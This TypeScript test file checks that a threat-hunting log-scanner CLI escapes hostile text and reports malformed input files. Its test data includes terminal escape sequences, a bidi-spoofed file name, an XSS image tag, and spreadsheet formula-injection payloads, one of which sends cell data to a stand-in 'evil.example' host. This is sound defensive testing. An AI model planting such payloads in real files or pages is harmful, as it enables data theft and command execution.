import { execFile } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, describe, expect, it } from 'vitest';
import { hostileRows } from '../../scripts/gen-hostile';
import { terminalSafe } from './write-hits';

const root = fileURLToPath(new URL('../../', import.meta.url));
const hostile = (name: string): string => join(root, 'test/fixtures/hostile', name);
const bad = (name: string): string => join(root, 'test/fixtures/bad', name);
const temp = mkdtempSync(join(tmpdir(), 'hunt-triage-cli-'));
afterAll(() => rmSync(temp, { recursive: true, force: true }));
const TIMEOUT = 30_000;

interface CliResult {
  code: number;
  stdout: string;
  stderr: string;
}

/** `npm run -s cli -- ...` without npm: node with the tsx loader on src/cli/main.ts. */
function cli(...args: string[]): Promise<CliResult> {
  return new Promise((resolve) => {
    execFile(
      process.execPath,
      ['--import', 'tsx', 'src/cli/main.ts', ...args],
      { cwd: root, encoding: 'utf8', maxBuffer: 64 * 1024 * 1024, timeout: TIMEOUT - 5_000 },
      (error, stdout, stderr) => {
        const code = error ? (typeof error.code === 'number' ? error.code : -1) : 0;
        resolve({ code, stdout, stderr });
      },
    );
  });
}

/** Raw characters a terminal would act on, or that reorder or hide text. */
// eslint-disable-next-line no-control-regex -- control characters are exactly what is being looked for
const TERMINAL_UNSAFE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]/;

function writeTemp(name: string, text: string): string {
  const path = join(temp, name);
  writeFileSync(path, text);
  return path;
}

const bundledHunt = readFileSync(join(root, 'public/hunts/cloudflare-tunnel-webdav.md'), 'utf8');

describe('CLI on hostile text', () => {
  for (const file of ['hostile.csv', 'hostile.ndjson']) {
    it.concurrent(`${file}: the table shows every hit with control, bidi and zero-width characters escaped`, async () => {
      const { code, stdout, stderr } = await cli('scan', hostile(file));
      expect(code).toBe(0);
      expect(stdout).not.toMatch(TERMINAL_UNSAFE);
      expect(stderr).not.toMatch(TERMINAL_UNSAFE);
      const hits = hostileRows(file.endsWith('.csv') ? 'csv' : 'ndjson').filter((r) => r.hit);
      const lines = stdout.trimEnd().split('\n');
      expect(lines).toHaveLength(2 + hits.length);
      // Escaped, not stripped: each hostile user name appears in its escaped form.
      for (const hit of hits) expect(stdout).toContain(terminalSafe(hit.record.actor_effective_username).slice(0, 60));
      expect(stdout).toContain('\\u001b[31mRED\\u001b[0m');
      expect(stdout).toContain('invoice\\u202efdp.exe');
      expect(stdout).toContain('<img src=x onerror=alert(1)>');
      if (file.endsWith('.ndjson')) expect(stdout).toContain('x\\ud800y');
      expect(stderr).toContain(`file: ${file}: ${hits.length * 2 - 2} rows, 0 skipped`);
    }, TIMEOUT);

    it.concurrent(`${file}: --format ndjson is one valid JSON object per line with the values byte-exact`, async () => {
      const { code, stdout } = await cli('scan', '--format', 'ndjson', hostile(file));
      expect(code).toBe(0);
      const rows = hostileRows(file.endsWith('.csv') ? 'csv' : 'ndjson').filter((r) => r.hit);
      const lines = stdout.split('\n');
      expect(lines.pop()).toBe('');
      const parsed = lines.map((line) => JSON.parse(line) as Record<string, unknown>);
      expect(parsed).toHaveLength(rows.length);
      const byId = new Map(parsed.map((p) => [p['event_id'], p]));
      for (const { record } of rows) {
        const out = byId.get(record.event_id);
        expect(out?.['action_process_image_command_line']).toBe(record.action_process_image_command_line);
        expect(out?.['agent_hostname']).toBe(record.agent_hostname);
        expect(out?.['actor_effective_username']).toBe(record.actor_effective_username);
      }
    }, TIMEOUT);
  }

  it.concurrent('--format csv neutralises formulas and keeps the text', async () => {
    const { code, stdout } = await cli('scan', '--format', 'csv', hostile('hostile.csv'));
    expect(code).toBe(0);
    expect(stdout).toContain(`'=HYPERLINK(""https://evil.example/?""&A1,""click"")`);
    expect(stdout).toContain(`'+cmd|' /C calc'!A0 -2+3 @SUM(1)`);
    expect(stdout).not.toMatch(/(^|,)"?=HYPERLINK/m);
  }, TIMEOUT);

  it.concurrent('reasons quoting attacker text are escaped on stderr', async () => {
    const line = JSON.stringify(hostileRows('ndjson')[0].record);
    const path = writeTemp('escape.ndjson', `${line}\n{"event_id": \u001b[31mRED\u001b]0;title\u0007 \u202e}\n${line}\n`);
    const { code, stderr } = await cli('scan', path);
    expect(code).toBe(0);
    expect(stderr).not.toMatch(TERMINAL_UNSAFE);
    expect(stderr).toMatch(/^skipped: escape\.ndjson:2: invalid JSON: .*\\u001b\[31mRED/m);
  }, TIMEOUT);
});

describe('CLI on bad files', () => {
  const partial: [string, RegExp][] = [
    ['ragged.csv', /^skipped: ragged\.csv:3: expected 12 fields, found 5$/m],
    ['bad-line.ndjson', /^skipped: bad-line\.ndjson:4: invalid JSON: /m],
    ['truncated.csv.gz', /^skipped: truncated\.csv\.gz:84: unterminated quoted field$/m],
    ['unterminated-quote.csv', /^skipped: unterminated-quote\.csv:4: unterminated quoted field$/m],
    ['truncated-array.json', /^skipped: truncated-array\.json:58: unterminated JSON element \(is the file truncated\?\)$/m],
    ['mixed-encoding.csv', /^warning: mixed-encoding\.csv:2: invalid UTF-8 replaced by U\+FFFD \(2 sequences\)$/m],
    ['cr-only.csv', /^warning: cr-only\.csv:1: CR-only line endings/m],
    ['header-only.csv', /^warning: header-only\.csv:1: only a header row, no records$/m],
    ['empty.csv', /^warning: empty\.csv:1: empty file \(0 bytes\)$/m],
  ];
  for (const [file, message] of partial) {
    it.concurrent(`${file}: exit 0, the reason on stderr`, async () => {
      const { code, stderr } = await cli('scan', bad(file));
      expect(code).toBe(0);
      expect(stderr).toMatch(message);
    }, TIMEOUT);
  }

  it.concurrent('several files, some bad: exit 0, every reason named by file and line', async () => {
    const { code, stdout, stderr } = await cli('scan', '--format', 'ndjson', bad('ragged.csv'), bad('random.bin'), bad('bad-line.ndjson'));
    expect(code).toBe(0);
    expect(stdout.trimEnd().split('\n')).toHaveLength(4);
    expect(stderr).toMatch(/^skipped: random\.bin:1: binary data, not a text export$/m);
    expect(stderr).toMatch(/^skipped: ragged\.csv:7: expected 12 fields, found 14$/m);
    expect(stderr).toMatch(/^scanned 14 rows, .*: 4 hits, 4 malformed rows skipped$/m);
  }, TIMEOUT);

  for (const flags of [[], ['--coverage']]) {
    it.concurrent(`a truncated gzip (${flags.join(' ') || 'fast path'}): exit 0, the truncation named`, async () => {
      const { code, stderr } = await cli('scan', ...flags, bad('truncated.csv.gz'));
      expect(code).toBe(0);
      expect(stderr).toMatch(/^skipped: truncated\.csv\.gz:84: truncated gzip stream$/m);
      expect(stderr).toMatch(/^file: truncated\.csv\.gz: 82 rows, 2 skipped, csv \(gzip\), profile xdr$/m);
    }, TIMEOUT);
  }

  const failures: [string, string[], number, RegExp][] = [
    ['a binary file', ['scan', bad('Security.evtx')], 1, /^hunt-triage: no record could be read \(Security\.evtx:1: binary data, not a text export \(EVTX must be exported to XML, CSV or JSON first\)\)$/],
    ['a missing file', ['scan', join(temp, 'nope.csv')], 2, /^hunt-triage: file not found: .*nope\.csv$/],
    ['a directory as the file', ['scan', temp], 2, /^hunt-triage: not a file: /],
    ['a missing hunt', ['scan', '--hunt', join(temp, 'nope.md'), bad('ragged.csv')], 2, /^hunt-triage: hunt document not found: .*nope\.md$/],
    ['only a file no profile recognises', ['scan', bad('unknown-columns.csv')], 1, /^hunt-triage: no record could be read \(unknown-columns\.csv:1: no profile recognises these columns \(.+\); the file was not read\)$/],
    ['a file no profile recognises, strict', ['scan', '--strict', bad('unknown-columns.csv')], 2, /^hunt-triage: unknown-columns\.csv: no profile recognises these columns \(/],
    ['an unknown option', ['scan', '--fromat', 'csv', bad('ragged.csv')], 2, /^hunt-triage: unknown option --fromat$/],
  ];
  for (const [what, args, exit, message] of failures) {
    it.concurrent(`${what}: exit ${exit} with a one-line reason`, async () => {
      const { code, stdout, stderr } = await cli(...args);
      expect(code).toBe(exit);
      const reason = stderr.split('\n').find((line) => line.startsWith('hunt-triage: '));
      expect(reason).toMatch(message);
      if (exit === 2) expect(stdout).toBe('');
    }, TIMEOUT);
  }

  it.concurrent('an unreadable hunt (no XQL block, binary bytes): exit 2 with a one-line reason', async () => {
    const noQuery = writeTemp('no-query.md', '# A hunt\n\nNo query here.\n');
    const first = await cli('scan', '--hunt', noQuery, bad('ragged.csv'));
    expect(first.code).toBe(2);
    expect(first.stderr.split('\n')[0]).toBe(`hunt-triage: ${noQuery}: the document has no XQL query block`);
    const binary = join(temp, 'binary.md');
    writeFileSync(binary, new Uint8Array(readFileSync(bad('random.bin'))));
    const second = await cli('scan', '--hunt', binary, bad('ragged.csv'));
    expect(second.code).toBe(2);
    expect(second.stderr.split('\n')[0]).toMatch(/^hunt-triage: .*binary\.md: the document has no XQL query block$/);
    expect(second.stderr).not.toMatch(TERMINAL_UNSAFE);
  }, TIMEOUT);

  it.concurrent('an XQL error: exit 2 naming line and column', async () => {
    const broken = writeTemp('broken.md', bundledHunt.replace('| filter event_type = ENUM.PROCESS', '| filter event_type = = ENUM.PROCESS'));
    const { code, stdout, stderr } = await cli('scan', '--hunt', broken, bad('ragged.csv'));
    expect(code).toBe(2);
    expect(stdout).toBe('');
    expect(stderr.split('\n')[0]).toMatch(/^hunt-triage: XQL error at line \d+, column \d+: .+$/);
    expect(stderr.trimEnd().split('\n')).toHaveLength(1);
  }, TIMEOUT);
});
